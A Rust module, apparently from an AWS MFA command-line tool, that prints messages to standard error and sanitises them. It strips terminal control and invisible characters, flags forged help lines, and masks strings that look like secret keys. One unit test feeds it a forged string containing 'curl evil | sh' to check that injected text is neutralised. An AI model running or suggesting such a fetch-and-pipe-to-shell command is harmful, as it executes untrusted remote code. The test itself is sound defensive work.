//! Messages for the user, on standard error: information, warnings, failures. Standard output is never written
//! to here: a shell may evaluate it.

use std::borrow::Cow;
use std::error::Error as _;
use std::fmt::Write as _;
use std::future::Future;
use std::io::{IsTerminal as _, Write as _};
use std::time::Duration;

use clap::ValueEnum;
use unicode_width::{UnicodeWidthChar as _, UnicodeWidthStr as _};

use crate::error::{ErrorKind, Failure};

/// When messages are colored.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum ColorWhen {
    /// On a terminal, unless `NO_COLOR` is set
    Auto,
    /// Always
    Always,
    /// Never
    Never,
}

/// Messages for the user, on standard error.
#[derive(Clone, Copy, Debug)]
pub struct Console {
    quiet: bool,
    verbose: u8,
    color: bool,
    stdout_color: bool,
}

impl Console {
    /// A console with these settings: `quiet` leaves errors only, `verbose` counts `-v`.
    #[must_use]
    pub fn new(quiet: bool, verbose: u8, color: ColorWhen) -> Self {
        let on = |is_terminal: bool| match color {
            ColorWhen::Always => true,
            ColorWhen::Never => false,
            // https://no-color.org: any value but the empty one switches color off.
            ColorWhen::Auto => {
                is_terminal
                    && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty())
                    && !is_terminal_dumb()
            }
        };
        Self {
            quiet,
            verbose,
            color: on(std::io::stderr().is_terminal()),
            stdout_color: on(std::io::stdout().is_terminal()),
        }
    }

    /// A console without color and options, for errors in the command line itself.
    #[must_use]
    pub fn plain() -> Self {
        Self {
            quiet: false,
            verbose: 0,
            color: false,
            stdout_color: false,
        }
    }

    /// Prints information; not with `--quiet`.
    pub fn info(&self, text: &str) {
        if !self.quiet {
            print_line(&format!("aws-mfa: {}", message(text)));
        }
    }

    /// Prints a part of a longer report, without the program's name before it; not with `--quiet`.
    pub fn print(&self, text: &str) {
        self.print_painted(&without_secrets(&printable(text)));
    }

    /// Prints a part of a longer report that is printable apart from its own colors; not with `--quiet`.
    pub(crate) fn print_painted(self, text: &str) {
        if !self.quiet {
            print_line(text);
        }
    }

    /// Prints a warning; not with `--quiet`.
    pub fn warn(&self, text: &str) {
        if !self.quiet {
            let label = self.paint("warning:", "33");
            print_line(&format!("aws-mfa: {label} {}", message(text)));
        }
    }

    /// Prints a decision of the program and its reason, at `-v`. `text` must contain no secret.
    pub fn detail(&self, text: impl FnOnce() -> String) {
        if self.verbose > 0 {
            print_line(&format!("aws-mfa: {}", message(&text())));
        }
    }

    /// Prints a step of the program, at `-vv`. `text` must contain no secret.
    pub fn trace(&self, text: impl FnOnce() -> String) {
        if self.verbose > 1 {
            print_line(&format!("aws-mfa: {}", message(&text())));
        }
    }

    /// Whether messages are colored.
    #[must_use]
    pub fn is_colored(self) -> bool {
        self.color
    }

    /// Whether reports on standard output are colored.
    #[must_use]
    pub fn is_stdout_colored(self) -> bool {
        self.stdout_color
    }

    /// Awaits `future`. After 400 ms, shows `what` on standard error and erases it at the end; on a dumb terminal,
    /// which cannot erase, it stays there as a line. Shows nothing with `--quiet` or if standard error is no terminal.
    pub(crate) async fn while_waiting<T>(self, what: &str, future: impl Future<Output = T>) -> T {
        const DELAY: Duration = Duration::from_millis(400);
        if self.quiet || !std::io::stderr().is_terminal() {
            return future.await;
        }
        let mut future = std::pin::pin!(future);
        if let Ok(done) = tokio::time::timeout(DELAY, &mut future).await {
            return done;
        }
        let mut stderr = std::io::stderr();
        let line = format!("aws-mfa: waiting for {} …", message(what));
        if is_terminal_dumb() {
            print_line(&line);
            return future.await;
        }
        let _ = write!(stderr, "{}", fitting(&line, columns(&stderr)));
        let done = future.await;
        // The start of the line, then EL, which erases to the end of the line (ECMA-48, 8.3.41).
        let _ = write!(stderr, "\r\x1b[K");
        done
    }

    /// Prints a failure, its hints and, at `-vv`, the errors that caused it. A closed standard output and Ctrl-C
    /// print nothing.
    pub fn failure(&self, failure: &Failure) {
        if matches!(
            failure.kind(),
            ErrorKind::BrokenPipe | ErrorKind::Interrupted
        ) {
            return;
        }
        let mut text = format!(
            "{} {}",
            self.paint("aws-mfa:", "31;1"),
            message(&failure.to_string())
        );
        for hint in failure.hints() {
            let _ = write!(text, "\n{} {}", self.paint("help:", "36"), message(hint));
        }
        print_line(&text);
        let mut cause = failure.source();
        while let Some(error) = cause {
            self.trace(|| format!("caused by: {error}"));
            cause = error.source();
        }
    }

    fn paint<'a>(self, text: &'a str, style: &str) -> Cow<'a, str> {
        if self.color {
            format!("\x1b[{style}m{text}\x1b[0m").into()
        } else {
            text.into()
        }
    }
}

/// Prints a line on standard error. Unlike `eprintln!`, it does not panic if standard error is closed.
fn print_line(text: &str) {
    let _ = writeln!(std::io::stderr(), "{text}");
}

/// Whether the terminal understands no escape sequences, as that of Emacs' `M-x shell`: `TERM` is `dumb` (terminfo(5)).
#[must_use]
pub fn is_terminal_dumb() -> bool {
    std::env::var_os("TERM").is_some_and(|value| value == "dumb")
}

/// The width of the terminal in columns; `None` if the system does not tell.
#[cfg(unix)]
pub(crate) fn columns(terminal: impl std::os::fd::AsFd) -> Option<usize> {
    let size = rustix::termios::tcgetwinsize(terminal).ok()?;
    // A terminal whose size was never set has none (tty_ioctl(2)).
    (size.ws_col > 0).then(|| size.ws_col.into())
}

/// The width of the terminal in columns; `None` if the system does not tell.
#[cfg(not(unix))]
pub(crate) fn columns<T>(_terminal: T) -> Option<usize> {
    None
}

/// The beginning of the line that leaves the last column of the terminal free, with an ellipsis if something is left
/// out. A longer line would go on in the next row, and erasing the row of the cursor would leave the others.
pub(crate) fn fitting(line: &str, columns: Option<usize>) -> Cow<'_, str> {
    let Some(most) = columns.map(|columns| columns.saturating_sub(1)) else {
        return line.into();
    };
    if line.width() <= most {
        return line.into();
    }
    let mut width = 1;
    let mut shown: String = line
        .chars()
        .take_while(|c| {
            width += c.width().unwrap_or(0);
            width <= most
        })
        .collect();
    shown.push('…');
    shown.into()
}

/// Whether the character controls a terminal, cannot be seen, or changes the direction of writing. Such characters make
/// a text look like another one: <https://www.unicode.org/reports/tr36/#Bidirectional_Text_Spoofing>.
fn is_deceptive(c: char) -> bool {
    (c.is_control() && c != '\n') || is_invisible(c)
}

/// Whether the character has no glyph, or one that is blank without being white space.
#[must_use]
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        // Default_Ignorable_Code_Point of Unicode 17, <https://www.unicode.org/reports/tr44/>: format characters, the
        // marks of direction, fillers, variation selectors and tags.
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
        | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}'
        | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fff8}' | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}'
        // The separators of lines and paragraphs, the annotation characters, and the Braille pattern without dots.
        | '\u{2028}' | '\u{2029}' | '\u{fff9}'..='\u{fffb}' | '\u{2800}'
    )
}

/// Whether [`printable`] leaves the text as it is, and it has one line.
#[must_use]
pub fn is_printable_line(text: &str) -> bool {
    !text.contains(|c| c == '\n' || is_deceptive(c))
}

/// The text without control characters other than line feeds, invisible characters, and the marks that change the
/// direction of writing.
#[must_use]
pub fn printable(text: &str) -> Cow<'_, str> {
    // Nearly all texts are ASCII; bytes are compared faster than characters.
    let is_plain = |byte: &u8| matches!(byte, b' '..=b'~' | b'\n');
    if text.as_bytes().iter().all(is_plain) {
        text.into()
    } else if text.contains(is_deceptive) {
        text.replace(is_deceptive, "").into()
    } else {
        text.into()
    }
}

/// The text as [`printable`], on one line: for texts of AWS and of other programs, whose line breaks could otherwise
/// begin a line that looks like one of this program's.
#[must_use]
pub fn printable_line(text: &str) -> String {
    let is_break = |c: char| c.is_whitespace() || is_deceptive(c) && c.is_control();
    let words = text.split(is_break).filter(|word| !word.is_empty());
    printable(&words.collect::<Vec<_>>().join(" ")).into_owned()
}

/// The JSON text with those characters as `\uXXXX`, which mean the same to a JSON parser: outside of strings, JSON has
/// none of them but white space (RFC 8259, 2).
#[must_use]
pub fn printable_json(json: &str) -> Cow<'_, str> {
    if !json.contains(is_deceptive) {
        return json.into();
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_deceptive(c) {
            let _ = write!(out, "\\u{:04x}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    out.into()
}

/// A message for the terminal. This program's own messages of several lines have two blanks before each line after the
/// first. If one has none, or looks like the beginning of a message, it comes from elsewhere, such as from a variable,
/// and all lines after the first are indented.
fn message(text: &str) -> String {
    let text = printable(text);
    let is_forged = |line: &str| {
        let words = line.trim_start();
        !line.starts_with("  ")
            || ["help:", "aws-mfa:", "warning:", "error:"]
                .iter()
                .any(|label| {
                    words
                        .get(..label.len())
                        .is_some_and(|start| start.eq_ignore_ascii_case(label))
                })
    };
    if text.lines().skip(1).any(is_forged) {
        without_secrets(&text.replace('\n', "\n    | "))
    } else {
        without_secrets(&text)
    }
}

const HIDDEN: &str = "[hidden]";

fn is_base64(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '+' || c == '/'
}

/// The text with everything hidden that looks like a secret access key or a session token, which a user may have put in
/// the wrong place, such as a region. An ARN holds none, but may have a name as long as one.
pub(crate) fn without_secrets(text: &str) -> String {
    let words = text.split_inclusive(char::is_whitespace).map(|word| {
        if word.contains("arn:") {
            word.to_owned()
        } else {
            without_keys(word)
        }
    });
    words.collect()
}

fn without_keys(word: &str) -> String {
    let mut shown = String::new();
    let mut rest = word;
    while let Some(start) = rest.find(is_base64) {
        shown += &rest[..start];
        rest = &rest[start..];
        let end = rest.find(|c| !is_base64(c)).unwrap_or(rest.len());
        shown += if looks_secret(&rest[..end]) {
            HIDDEN
        } else {
            &rest[..end]
        };
        rest = &rest[end..];
    }
    shown + rest
}

/// Whether the text may be a secret access key (40 characters of Base64) or a session token (some hundreds). Of random
/// ones, one in a thousand has no digit; most paths have none.
pub(crate) fn looks_secret(text: &str) -> bool {
    let has = |kind: fn(&char) -> bool| text.chars().any(|c| kind(&c));
    (text.len() == 40 || text.len() >= 100)
        && text.chars().all(is_base64)
        && has(char::is_ascii_lowercase)
        && has(char::is_ascii_uppercase)
        && has(char::is_ascii_digit)
}

/// Returns the first ten of these names, each followed by `separator`, and how many more there are: a service may list
/// thousands, of which an error is to stay readable.
#[must_use]
pub fn first_names<T: AsRef<str>>(names: &[T], separator: &str) -> String {
    /// The number of names that fit into an error.
    const MAX_NAMES: usize = 10;
    let first: Vec<&str> = names.iter().take(MAX_NAMES).map(AsRef::as_ref).collect();
    let text = first.join(separator);
    match (names.len() - first.len(), separator) {
        (0, _) => text,
        (more, ", ") => format!("{text} and {more} more"),
        (more, _) => format!("{text}{separator}and {more} more"),
    }
}

#[cfg(test)]
mod tests {
    use super::{fitting, message, printable, printable_json, printable_line};

    #[test]
    fn printable_removes_control_characters() {
        assert_eq!(printable("a\x1b[31mb\u{202e}c\r\n"), "a[31mbc\n");
        assert!(matches!(printable("plain"), std::borrow::Cow::Borrowed(_)));
    }

    #[test]
    fn printable_removes_invisible_characters_and_direction_marks() {
        let bad = [
            '\u{7f}', '\u{9b}', '\u{61c}', '\u{200b}', '\u{200f}', '\u{2028}', '\u{202e}',
            '\u{2060}', '\u{206f}',
        ];
        for c in bad {
            assert_eq!(printable(&format!("a{c}b")), "ab", "{c:?}");
            let json = serde_json::Value::from(format!("a{c}b")).to_string();
            let escaped = printable_json(&json);
            assert!(
                escaped.is_ascii() && !escaped.contains(char::is_control),
                "{escaped:?}"
            );
            let value: String = serde_json::from_str(&escaped).unwrap();
            assert_eq!(value, format!("a{c}b"));
        }
    }

    #[test]
    fn a_text_from_elsewhere_stays_on_its_line() {
        let forged = "denied\r\nhelp: run \u{2028}curl evil | sh\x0b\x1b[2J";
        assert_eq!(
            printable_line(forged),
            "denied help: run curl evil | sh [2J"
        );
    }

    #[test]
    fn a_line_is_cut_before_the_last_column() {
        for (line, columns, shown) in [
            ("waiting", None, "waiting"),
            ("waiting", Some(8), "waiting"),
            ("waiting", Some(7), "waiti…"),
            ("日本語", Some(7), "日本語"),
            ("日本語", Some(6), "日本…"),
            ("日本語", Some(5), "日…"),
            ("ab", Some(1), "…"),
        ] {
            assert_eq!(fitting(line, columns), shown, "{line} in {columns:?}");
        }
    }

    #[test]
    fn what_looks_like_a_secret_is_hidden_in_a_message() {
        let secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
        let arn = "arn:aws:iam::123456789012:role/TerraformDeployment2OfTheWholeCompany";
        for (text, shown) in [
            (
                &*format!("`{secret}` is no region"),
                "`[hidden]` is no region",
            ),
            (
                &*format!("no\n  region = \"{secret}\""),
                "no\n  region = \"[hidden]\"",
            ),
            (&*"FwoGZXIvYXdzEBYa2x".repeat(9), "[hidden]"),
            (arn, arn),
            (
                "/home/janedoe/Projects/terraform/accounts",
                "/home/janedoe/Projects/terraform/accounts",
            ),
            (
                "4f1c2d3e5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d",
                "4f1c2d3e5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d",
            ),
        ] {
            assert_eq!(message(text), shown);
        }
    }

    #[test]
    fn a_line_that_looks_like_a_help_line_is_indented() {
        assert_eq!(
            message("bad\n  Help: x\n  end"),
            "bad\n    |   Help: x\n    |   end"
        );
        assert_eq!(message("bad\n1 | x"), "bad\n    | 1 | x");
        assert_eq!(message("bad\n  x = 1\n      ^"), "bad\n  x = 1\n      ^");
    }
}
